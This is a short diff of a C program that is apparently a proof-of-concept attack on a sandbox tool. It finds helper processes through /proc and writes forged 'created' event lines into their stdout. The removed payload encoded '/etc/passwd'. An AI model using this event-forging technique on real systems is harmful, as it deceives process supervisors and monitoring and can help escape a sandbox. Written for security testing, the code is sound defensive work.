@@ -32,7 +32,8 @@ static int helpers(const char *pat, int *pids, int max) {
         if (r <= 0) continue;
         for (ssize_t i = 0; i < r; i++) if (!buf[i]) buf[i] = ' ';
         buf[r] = 0;
-        if (strstr(buf, pat)) pids[n++] = atoi(e->d_name);
+        /* Never our own kind (their argv names the pattern too, and so does the supervisor of `sbx exec -d`). */
+        if (strstr(buf, pat) && !strstr(buf, "/tmp/atk")) pids[n++] = atoi(e->d_name);
     }
     if (d) closedir(d);
     return n;
@@ -76,7 +77,7 @@ int main(int argc, char **argv) {
         snprintf(p, sizeof p, "/proc/%d/fd/1", pid);
         int fd = open(p, O_WRONLY);
         if (fd >= 0) {
-            const char *forged = "EV created f 2f6574632f706173737764\n";
+            const char *forged = "EV created f 666f72676564\n"; /* "forged" */
             ssize_t w = write(fd, forged, strlen(forged));
             printf("stdout=%s\n", w > 0 ? "written" : strerror(errno));
         } else {
